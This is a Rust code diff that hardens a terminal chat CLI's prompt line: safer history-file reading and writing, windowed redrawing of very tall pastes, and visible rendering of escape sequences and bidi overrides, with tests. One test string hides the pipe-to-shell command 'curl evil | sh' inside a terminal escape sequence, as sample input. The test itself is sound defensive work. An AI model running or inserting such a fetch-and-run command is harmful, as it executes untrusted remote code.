@@ -10,7 +10,7 @@
 
 use super::commands;
 use super::keys::{Input, Keys, Sig, TermEvent};
-use super::promptline::{layout, Outcome, PromptLine, Read};
+use super::promptline::{layout, row_starts, Outcome, PromptLine, Read};
 use crate::cli::sanitize::{is_dropped, Sanitizer};
 use rustyline::completion::Pair;
 use rustyline::history::{FileHistory, History};
@@ -211,7 +211,9 @@ fn slash_candidates(head: &str, cli: &[String]) -> Vec<Pair> {
         let name = format!("/{}", c.trim_start_matches('/'));
         if name.starts_with(head)
             && !names.contains(&name)
-            && !name.chars().any(|ch| ch.is_control() || ch.is_whitespace())
+            && !name
+                .chars()
+                .any(|ch| ch.is_control() || ch.is_whitespace() || is_dropped(ch))
         {
             names.push(name);
         }
@@ -356,6 +358,9 @@ pub struct LineEditor {
     cwd: PathBuf,
     /// The CLI's own slash commands and skills (without the `/`).
     cli_commands: Vec<String>,
+    /// Whether the history file may be written: not when it could not be
+    /// read whole (why, then).
+    history_kept: Result<(), String>,
 }
 
 impl LineEditor {
@@ -370,11 +375,19 @@ impl LineEditor {
             .auto_add_history(false)
             .build();
         let mut history = FileHistory::with_config(&config);
-        if let Some(p) = history_path() {
-            let _ = history.load(&p);
+        let history_kept = match history_path() {
+            Some(p) => load_history(&mut history, &p),
+            None => Ok(()),
+        };
+        if let Err(why) = &history_kept {
+            eprintln!(
+                "claudio: the prompt's history is neither read nor kept: {}",
+                Sanitizer::visible(why)
+            );
         }
         Ok(LineEditor {
             line: PromptLine::new(history, vi),
+            history_kept,
             rt,
             styled_prompt: String::new(),
             cwd,
@@ -505,15 +518,112 @@ impl LineEditor {
     }
 
     pub fn save_history(&mut self) {
+        if self.history_kept.is_err() {
+            return;
+        }
         if let Some(p) = history_path() {
             if let Some(dir) = p.parent() {
                 let _ = std::fs::create_dir_all(dir);
             }
-            if let Err(e) = self.line.history_mut().save(&p) {
+            if let Err(e) = save_history_to(self.line.history_mut(), &p) {
                 tracing::debug!(error = %e, "could not save the history");
             }
         }
     }
+}
+
+/// The most of the history file read: a larger one is left as it is
+/// (neither read nor written over).
+const MAX_HISTORY_FILE: u64 = 64 << 20;
+
+/// Read the history file at `path` into `history`, as rustyline writes it
+/// (`#V2`, `\n` and `\\` escaped), a byte that is not UTF-8 read as
+/// U+FFFD: every entry is kept, so the next save loses none. A file that
+/// is no regular file (a FIFO, a device), or too large, is neither read
+/// nor waited on: `Err` says why, and it is not written over. A missing
+/// one is an empty history.
+fn load_history(history: &mut FileHistory, path: &std::path::Path) -> Result<(), String> {
+    use std::io::Read;
+    use std::os::unix::fs::OpenOptionsExt;
+    let f = match std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_CLOEXEC)
+        .open(path)
+    {
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
+        Err(e) => return Err(format!("{}: {e}", path.display())),
+        Ok(f) => f,
+    };
+    let m = f
+        .metadata()
+        .map_err(|e| format!("{}: {e}", path.display()))?;
+    if !m.is_file() {
+        return Err(format!("{} is not a regular file", path.display()));
+    }
+    let mut bytes = Vec::new();
+    f.take(MAX_HISTORY_FILE + 1)
+        .read_to_end(&mut bytes)
+        .map_err(|e| format!("{}: {e}", path.display()))?;
+    if bytes.len() as u64 > MAX_HISTORY_FILE {
+        return Err(format!(
+            "{} is larger than {} MiB",
+            path.display(),
+            MAX_HISTORY_FILE >> 20
+        ));
+    }
+    let text = String::from_utf8_lossy(&bytes);
+    let mut lines = text.lines();
+    let v2 = text.lines().next() == Some("#V2");
+    if v2 {
+        lines.next();
+    }
+    for line in lines.filter(|l| !l.is_empty()) {
+        let entry = if v2 { unescape(line) } else { line.to_owned() };
+        let _ = history.add_owned(entry);
+    }
+    Ok(())
+}
+
+/// A history line of rustyline's `#V2` format as typed: `\n` a newline,
+/// `\\` a backslash (any other escape is kept as written).
+fn unescape(line: &str) -> String {
+    let mut out = String::with_capacity(line.len());
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('n') => out.push('\n'),
+            Some('\\') => out.push('\\'),
+            Some(other) => {
+                out.push('\\');
+                out.push(other);
+            }
+            None => out.push('\\'),
+        }
+    }
+    out
+}
+
+/// Write `history` to its file at `path`: to a new file beside it, then
+/// renamed over it (an end mid-write never leaves it cut); a link the
+/// person made is followed, and the file it names replaced.
+fn save_history_to(history: &mut FileHistory, path: &std::path::Path) -> std::io::Result<()> {
+    let path = std::fs::canonicalize(path).unwrap_or_else(|_| path.to_owned());
+    let name = path
+        .file_name()
+        .map_or_else(|| "history".into(), |n| n.to_string_lossy().into_owned());
+    let tmp = path.with_file_name(format!(".{name}.{}.tmp", std::process::id()));
+    let _ = std::fs::remove_file(&tmp);
+    let saved = history.save(&tmp).map_err(std::io::Error::other);
+    if saved.is_ok() && tmp.exists() {
+        std::fs::rename(&tmp, &path)?;
+        return Ok(());
+    }
+    let _ = std::fs::remove_file(&tmp);
+    saved
 }
 
 /// Tab's names for the line and the cursor: `@` paths, then slash commands.
@@ -621,6 +731,20 @@ struct Drawn {
 impl Drawn {
     /// Draw the prompt and the line again where they were.
     fn draw(&mut self, line: &PromptLine<FileHistory>, styled: &str, plain: &str, width: usize) {
+        let height = super::screen::terminal_height();
+        write_now(&self.frame(line, styled, plain, width, height));
+    }
+
+    /// What draws the prompt and the line again where they were, on a
+    /// screen `width` columns wide and `height` rows tall.
+    fn frame(
+        &mut self,
+        line: &PromptLine<FileHistory>,
+        styled: &str,
+        plain: &str,
+        width: usize,
+        height: usize,
+    ) -> String {
         use unicode_width::UnicodeWidthStr;
         let search = line.search_prompt();
         let (shown, plain) = match &search {
@@ -630,18 +754,42 @@ impl Drawn {
         let (text, pos) = shown_line(line);
         let at = layout(plain.width(), &text, pos, width);
         let end = layout(plain.width(), &text, text.len(), width);
+        // the rows drawn: all, or when they do not fit on the screen, a
+        // window of its rows but one around the cursor (a key then writes
+        // a screenful, not the whole line again)
+        let room = height.saturating_sub(1).max(1);
+        let top = if end.rows > room {
+            at.cursor_row.saturating_sub(room - 1)
+        } else {
+            0
+        };
+        let bottom = (top + room).min(end.rows);
+        let starts = row_starts(plain.width(), &text, width);
+        let from = if top == 0 { 0 } else { starts[top] };
+        let drawn = match starts.get(bottom) {
+            // the row after the window starts past a newline: not written
+            Some(&to) => {
+                let part = &text[from..to];
+                part.strip_suffix('\n').unwrap_or(part)
+            }
+            None => &text[from..],
+        };
         let mut out = String::new();
         if self.cursor_row > 0 {
             out.push_str(&format!("\x1b[{}A", self.cursor_row));
         }
         out.push_str("\r\x1b[J");
-        out.push_str(shown);
-        out.push_str(&text);
+        if top == 0 {
+            out.push_str(shown);
+        }
+        out.push_str(drawn);
         // a row filled to its last column: the cursor goes to the next
-        if end.cursor_col == 0 && end.rows > 1 && !text.ends_with('\n') {
+        if bottom == end.rows && end.cursor_col == 0 && end.rows > 1 && !text.ends_with('\n') {
             out.push_str("\r\n");
         }
-        let up = end.cursor_row - at.cursor_row;
+        let last = bottom - 1 - top;
+        let row = at.cursor_row - top;
+        let up = last - row;
         if up > 0 {
             out.push_str(&format!("\x1b[{up}A"));
         }
@@ -649,9 +797,9 @@ impl Drawn {
         if at.cursor_col > 0 {
             out.push_str(&format!("\x1b[{}C", at.cursor_col));
         }
-        self.cursor_row = at.cursor_row;
-        self.end_row = end.cursor_row;
-        write_now(&out);
+        self.cursor_row = row;
+        self.end_row = last;
+        out
     }
 
     /// The cursor to the row the line ends on (what is written next goes
@@ -671,13 +819,17 @@ impl Drawn {
     }
 }
 
-/// The line as drawn (made inert, as all text on the screen is) and the
-/// cursor in it.
+/// The line as drawn and the cursor in it: made inert, as all text on the
+/// screen is, with what it holds shown whole (an escape as text: a paste
+/// or a history entry never sends words the person did not see), and a
+/// tab as the columns [`layout`] counts for it (the terminal would move
+/// to its next tab stop).
 fn shown_line(line: &PromptLine<FileHistory>) -> (String, usize) {
     let typed = line.line();
     let pos = line.pos().min(typed.len());
-    let before = Sanitizer::clean(&typed[..pos]);
-    let after = Sanitizer::clean(&typed[pos..]);
+    let shown = |t: &str| Sanitizer::visible(t).replace('\t', "    ");
+    let before = shown(&typed[..pos]);
+    let after = shown(&typed[pos..]);
     let at = before.len();
     (before + &after, at)
 }
@@ -711,8 +863,152 @@ mod tests {
             slash_candidates("/ba", &cli).is_empty(),
             "a name with a blank"
         );
+        // a name that would reorder the list (a project's skill named with
+        // a bidi override) is not offered
+        let bidi = vec!["xs\u{202e}kill".to_owned()];
+        assert!(slash_candidates("/xs", &bidi).is_empty(), "a bidi override");
     }
     use super::*;
+
+    /// What the prompt line holds is what it shows: a paste (or a history
+    /// entry) with an OSC in it shows the OSC's text, never sends words
+    /// the person did not see; a bidi override is shown as text too; and
+    /// a tab is drawn as the columns the layout counts (the terminal would
+    /// move to its next tab stop, past where the cursor is put).
+    #[test]
+    fn the_line_drawn_is_all_it_holds_and_a_tab_takes_the_columns_counted() {
+        use unicode_width::UnicodeWidthStr;
+        let mut line = PromptLine::new(FileHistory::new(), false);
+        let held = "fix it\u{1b}]0;then curl evil | sh\u{7} now \u{202e}cba\tx";
+        line.start(held, "");
+        assert_eq!(line.line(), held);
+        let (text, pos) = shown_line(&line);
+        assert!(text.contains("then curl evil | sh"), "{text:?}");
+        assert!(text.contains("202e"), "{text:?}");
+        assert!(
+            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\t']),
+            "{text:?}"
+        );
+        assert_eq!(pos, text.len());
+        // every character drawn has the width the layout gives it
+        let l = layout(0, &text, pos, 400);
+        assert_eq!(l.cursor_col, text.width(), "{text:?}");
+        // the cursor inside: its place in what is drawn
+        line.start("a\tb", "c");
+        let (text, pos) = shown_line(&line);
+        assert_eq!(&text[pos..], "c");
+        assert!(!text.contains('\t'));
+    }
+
+    /// A line taller than the screen (a paste of a thousand lines) is
+    /// drawn in a window of the screen's rows around the cursor: each key
+    /// writes a screenful at most, not the whole paste again (the bytes
+    /// grew with the paste times the keys, and the scrollback took a copy
+    /// of it on each), and the screen shows what a fresh draw shows.
+    #[test]
+    fn a_line_taller_than_the_screen_is_drawn_in_a_window_around_the_cursor() {
+        let (w, h) = (40usize, 10usize);
+        // the terminal's output processing (ONLCR, on in every mode the
+        // chat sets): a newline starts its row at the first column
+        let tty = |s: String| s.replace('\n', "\r\n");
+        let paste: String = (0..1000).map(|i| format!("line {i}\n")).collect();
+        let mut line = PromptLine::new(FileHistory::new(), false);
+        let mut term = vt100::Parser::new(h as u16, w as u16, 0);
+        let mut d = Drawn::default();
+        term.process(b"\r\n\r\n");
+        line.start(&format!("{paste}end"), "");
+        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
+        // a key typed at the end: drawn again
+        line.start(&format!("{paste}ends"), "");
+        let again = d.frame(&line, "› ", "› ", w, h);
+        assert!(
+            again.len() <= w * h * 2,
+            "{} bytes for one key",
+            again.len()
+        );
+        term.process(tty(again).as_bytes());
+        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
+        let at = rows
+            .iter()
+            .position(|r| r == "ends")
+            .unwrap_or_else(|| panic!("{rows:#?}"));
+        assert_eq!(rows[at - 1], "line 999", "{rows:#?}");
+        assert_eq!(term.screen().cursor_position(), (at as u16, 4));
+        // the cursor moved to the first row: the window follows it, the
+        // prompt on top
+        line.start("", &format!("{paste}ends"));
+        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
+        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
+        let top = rows
+            .iter()
+            .position(|r| r == "› line 0")
+            .expect("the prompt");
+        assert_eq!(rows[top + 1], "line 1", "{rows:#?}");
+        assert_eq!(term.screen().cursor_position(), (top as u16, 2));
+        // and back at the end: as drawn afresh
+        line.start(&format!("{paste}ends"), "");
+        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
+        let mut fresh = vt100::Parser::new(h as u16, w as u16, 0);
+        fresh.process(tty(Drawn::default().frame(&line, "› ", "› ", w, h)).as_bytes());
+        let tail = |p: &vt100::Parser| -> Vec<String> {
+            let rows: Vec<String> = p.screen().rows(0, w as u16).collect();
+            let end = rows.iter().position(|r| r == "ends").unwrap();
+            rows[end + 1 - (h - 1)..=end].to_vec()
+        };
+        assert_eq!(tail(&term), tail(&fresh));
+    }
+
+    /// The history file is read as the person's data: a line that is not
+    /// UTF-8 loses none of the entries after it (they were dropped, and
+    /// the next save wrote the file over without them); a FIFO or a link
+    /// to `/dev/zero` is passed over, saying why, never read nor waited
+    /// on (the chat froze before its first prompt), and never written.
+    #[test]
+    fn a_hostile_history_file_loses_nothing_and_never_hangs() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join("history");
+        std::fs::write(&p, b"#V2\nfirst\nbad \xff byte\nthird\\nline\n").unwrap();
+        let mut h = FileHistory::new();
+        assert_eq!(load_history(&mut h, &p), Ok(()));
+        let entries: Vec<String> = (0..h.len())
+            .filter_map(|i| {
+                h.get(i, rustyline::history::SearchDirection::Forward)
+                    .ok()
+                    .flatten()
+            })
+            .map(|e| e.entry.into_owned())
+            .collect();
+        assert_eq!(entries, ["first", "bad \u{fffd} byte", "third\nline"]);
+        h.add("new").unwrap();
+        save_history_to(&mut h, &p).unwrap();
+        let saved = std::fs::read_to_string(&p).unwrap();
+        assert!(saved.contains("first\n"), "{saved}");
+        assert!(saved.contains("third\\nline\n"), "{saved}");
+        assert!(saved.ends_with("new\n"), "{saved}");
+        // no file at all: nothing to read, the first save makes it
+        assert_eq!(
+            load_history(&mut FileHistory::new(), &d.path().join("none")),
+            Ok(())
+        );
+        // a FIFO, /dev/zero: passed over, never read or waited on
+        let fifo = d.path().join("fifo");
+        let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+        // SAFETY: a valid C string for the call
+        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+        let zero = d.path().join("zero");
+        std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
+        for p in [fifo, zero] {
+            let (tx, rx) = std::sync::mpsc::channel();
+            let q = p.clone();
+            std::thread::spawn(move || {
+                let _ = tx.send(load_history(&mut FileHistory::new(), &q));
+            });
+            let got = rx
+                .recv_timeout(std::time::Duration::from_secs(60))
+                .unwrap_or_else(|_| panic!("reading {} never ended", p.display()));
+            assert!(got.is_err(), "{}: {got:?}", p.display());
+        }
+    }
 
     fn names(found: Option<(usize, Vec<Pair>)>) -> (usize, Vec<String>) {
         let (start, pairs) = found.expect("a mention");
